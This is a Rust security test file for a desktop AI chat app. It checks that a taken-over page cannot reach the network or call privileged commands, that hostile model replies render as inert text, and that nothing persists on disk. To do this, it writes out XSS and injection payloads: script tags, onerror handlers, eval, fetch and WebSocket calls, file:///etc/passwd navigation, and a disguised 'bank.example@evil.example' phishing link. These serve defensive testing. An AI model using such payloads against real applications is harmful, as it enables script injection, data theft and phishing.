//! The walls around the page: what a hostile message, or a page that was taken over, cannot do.

use std::net::TcpListener;

use serde_json::{Value, json};
use skein_support::model_server::{ModelServer, Reply};

use crate::harness::{Desk, wait_blocking};
use crate::stock;

#[tokio::test]
async fn a_page_that_was_taken_over_cannot_leave_fetch_or_call_what_it_need_not() {
    let desk = Desk::new();
    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
    outside.set_nonblocking(true).unwrap();
    let address = format!("http://{}/", outside.local_addr().unwrap());
    let window = desk.open().await;
    let page = &window.page;
    page.see("Your first thread").await;
    let attack = "const url = arguments_[0], ran = []; window.ran = ran; \
        const script = document.createElement('script'); script.textContent = 'window.ran.push(\"inline\")'; document.body.append(script); \
        const remote = document.createElement('script'); remote.src = url; document.body.append(remote); \
        const box = document.createElement('div'); document.body.append(box); \
        box.innerHTML = `<img src=\"${url}\" onerror=\"window.ran.push('handler')\"><iframe src=\"${url}\"></iframe><object data=\"${url}\"></object>`; \
        try { eval('window.ran.push(\"eval\")') } catch {} \
        await fetch(url).then(() => ran.push('fetch'), () => {}); \
        navigator.sendBeacon?.(url, 'x'); \
        await new Promise(done => { try { const socket = new WebSocket(url.replace('http', 'ws')); socket.onerror = done } catch { done() } }); \
        const form = document.createElement('form'); form.action = url; form.method = 'post'; document.body.append(form); form.submit(); \
        if (window.open(url)) ran.push('window'); \
        for (const to of [url, 'data:text/html,x', 'file:///etc/passwd', 'javascript:window.ran.push(1)']) { try { location.href = to } catch {} } \
        await new Promise(next => requestAnimationFrame(() => requestAnimationFrame(next))); \
        return ran";
    assert_eq!(page.js_async(attack, vec![address.clone().into()]).await, json!([]));
    page.see("Your first thread").await;
    assert_eq!(page.0.current_url().await.unwrap().as_str(), "tauri://localhost");
    assert_eq!(page.0.windows().await.unwrap().len(), 1);
    assert!(outside.accept().is_err(), "something reached the network");

    for command in [
        "plugin:event|emit",
        "plugin:window|close",
        "plugin:webview|create_webview_window",
        "plugin:app|version",
        "read_key",
    ] {
        assert!(page.invoke(command, json!({"event": "changed", "payload": null})).await.is_err(), "{command}");
    }
    let global = page.js("return [window.__TAURI__ === undefined, Object.isFrozen(Object.prototype)]", vec![]).await;
    assert_eq!(global, json!([true, true]));
}

#[tokio::test]
async fn a_hostile_reply_is_text_and_its_links_ask_first() {
    let desk = Desk::new();
    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
    outside.set_nonblocking(true).unwrap();
    let address = outside.local_addr().unwrap();
    let server = ModelServer::start();
    stock::answer_with(&desk, &server);
    server.queue(Reply::text(&format!(
        "<script>window.taken = 1</script>\n\n<img src=x onerror=\"window.taken = 2\">\n\n![chart](http://{address}/chart.png)\n\n\
         [safe bank](https://bank.example@evil.example/login) [click](javascript:window.taken=3) and the end"
    )));
    let window = desk.open().await;
    let page = &window.page;
    page.send("Show me").await;
    page.see("and the end").await;
    page.quiet().await;
    assert_eq!(page.js("return window.taken ?? null", vec![]).await, Value::Null);
    assert_eq!(page.js("return document.querySelectorAll('.text img, .text script').length", vec![]).await, json!(0));
    page.picture("hostile").await;

    page.click("link", "safe bank").await;
    page.see("Open evil.example?").await;
    page.picture("link").await;
    page.click("button", "Cancel").await;
    assert_eq!(desk.opened(), "");
    page.click("link", "safe bank").await;
    page.click("button", "Open in browser").await;
    wait_blocking("the browser is asked", || desk.opened().contains("https://bank.example@evil.example/login"));
    assert_eq!(page.0.current_url().await.unwrap().as_str(), "tauri://localhost");
    assert_eq!(page.js("return window.taken ?? null", vec![]).await, Value::Null);
    assert!(outside.accept().is_err(), "a picture was fetched");
    for url in ["file:///etc/passwd", "javascript:alert(1)", "smb://server/share"] {
        assert!(page.invoke("open_link", json!({"url": url})).await.is_err(), "{url}");
    }
}

#[tokio::test]
async fn what_the_window_does_without_is_not_asked_of_the_browser() {
    let desk = Desk::new();
    let window = desk.open().await;
    let environment = |process: &u32| std::fs::read_to_string(format!("/proc/{process}/environ")).unwrap_or_default();
    let spared = ["JSC_useDFGJIT=0", "JSC_useGenerationalGC=0", "WEBKIT_SKIA_ENABLE_CPU_RENDERING=1"];
    let told = |process: &u32| spared.iter().all(|setting| environment(process).contains(setting));
    assert!(window.processes().iter().any(told), "a process of the web view is told");
    let one_arena = "GLIBC_TUNABLES=glibc.malloc.arena_max=1";
    assert!(environment(&window.processes()[0]).contains(one_arena), "skein starts the window with it");

    window.page.invoke("open_link", json!({"url": "https://example.com/"})).await.unwrap();
    wait_blocking("the browser is asked", || desk.opened().contains("https://example.com/"));
    let with = desk.opened_with();
    assert!(with.contains("PATH="), "{with}");
    let ours = |line: &&str| ["JSC_", "WEBKIT_SKIA", "GLIBC_TUNABLES"].iter().any(|name| line.starts_with(name));
    assert_eq!(with.lines().filter(ours).count(), 0, "{with}");
}

#[tokio::test]
async fn the_web_view_keeps_nothing_of_what_it_shows_on_the_disk() {
    let desk = Desk::new();
    stock::thread(&desk, "secret", None, &["A canary in the sidebar"]).await;
    let program = desk.start_undriven();
    wait_blocking("the page has a process", || program.runs("WebKitWebProces"));
    program.ask_to_end();
    let own = desk.store().display().to_string();
    let elsewhere = |file: &String| !file.starts_with(&own);
    assert_eq!(desk.files_with("canary").into_iter().filter(elsewhere).collect::<Vec<_>>(), Vec::<String>::new());
    // What is made before any page is there: random salts, and an empty list of hosts.
    let empty = |file: &String| file.ends_with("/salt") || file.ends_with("/hsts-storage.sqlite");
    let of_web_view = |file: &String| file.contains("app.skein.desktop") || file.to_lowercase().contains("webkit");
    let kept = |file: &String| elsewhere(file) && of_web_view(file) && !empty(file);
    assert_eq!(desk.files().into_iter().filter(kept).collect::<Vec<_>>(), Vec::<String>::new());
    // Whoever wants nothing left deletes what the README names. The graphics driver's cache is nobody's own.
    let named = [own.clone(), desk.home().join("data/app.skein.desktop").display().to_string()];
    let played = desk.home().join("bin").display().to_string();
    let others = |file: &String| file.starts_with(&played) || file.contains("/cache/mesa_shader_cache");
    let left = |file: &String| !others(file) && !named.iter().any(|name| file.starts_with(name));
    assert_eq!(desk.files().into_iter().filter(left).collect::<Vec<_>>(), Vec::<String>::new());
    let readme = include_str!("../../README.md");
    assert!(readme.contains("~/.local/share/app.skein.desktop"));
}
